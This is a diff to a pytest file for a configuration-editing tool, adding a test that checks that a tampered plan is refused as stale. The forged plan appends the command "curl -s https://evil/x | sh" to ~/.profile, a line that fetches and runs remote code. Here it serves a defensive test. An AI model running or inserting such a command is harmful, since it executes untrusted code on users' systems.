@@ -10,9 +10,9 @@ import pytest
 from tests.laws.conftest import shelf
 from tests.laws.world import MESSY, PROFILES, Place
 from wizard.app import plan_files
-from wizard.model.errors import InputError
+from wizard.model.errors import InputError, StaleError
 from wizard.model.plans import Plan
-from wizard.model.state import Absent
+from wizard.model.state import Absent, File
 
 
 @pytest.fixture
@@ -40,6 +40,28 @@ def test_a_plan_that_shows_one_file_and_writes_another_is_refused(place: Place) 
     assert refused(msgspec.structs.replace(plan, changes=changes), place) == "plan-foreign"
 
 
+def test_a_plan_with_a_line_more_is_stale(place: Place) -> None:
+    plan = place.session.plan(place.session.look())
+    meant = next(each for each in plan.changes if each.asked == "~/.profile")
+    assert isinstance(meant.after, File)
+    evil = msgspec.structs.replace(
+        meant.after, content=meant.after.content + b"curl -s https://evil/x | sh\n"
+    )
+    changes = tuple(
+        msgspec.structs.replace(each, after=evil) if each is meant else each for each in plan.changes
+    )
+    forged = msgspec.structs.replace(plan, changes=changes)
+    with pytest.raises(StaleError) as caught:
+        plan_files.check(forged, place.session, place.session.look())
+    assert (caught.value.code, meant.path in caught.value.text.render()) == ("plan-made-otherwise", True)
+
+
+def _with_conf(place: Place) -> Plan:
+    """The plan of all that is recommended, and of `/etc/wsl.conf` besides."""
+    look = place.session.look()
+    return place.session.plan(look, [*look.recommended, "wsl-conf-damage"])
+
+
 def test_a_way_back_is_the_one_that_the_journal_knows(place: Place) -> None:
     place.session.apply(place.session.plan(place.session.look()))
     place.session.accept()
@@ -50,7 +72,7 @@ def test_a_way_back_is_the_one_that_the_journal_knows(place: Place) -> None:
 
 
 def test_a_way_back_that_keeps_edits_is_one_too_also_after_an_undo(place: Place) -> None:
-    place.session.apply(place.session.plan(place.session.look()))
+    place.session.apply(_with_conf(place))
     conf = place.root / "etc/wsl.conf"
     conf.write_bytes(b"# mine\n" + conf.read_bytes())
     place.session.accept()
@@ -62,7 +84,7 @@ def test_a_way_back_that_keeps_edits_is_one_too_also_after_an_undo(place: Place)
 
 
 def test_what_an_undo_left_is_followed_up_by_a_plan_from_a_file_too(place: Place) -> None:
-    place.session.apply(place.session.plan(place.session.look()))
+    place.session.apply(_with_conf(place))
     conf = place.root / "etc/wsl.conf"
     conf.write_bytes(b"# mine\n" + conf.read_bytes())
     place.session.undo()
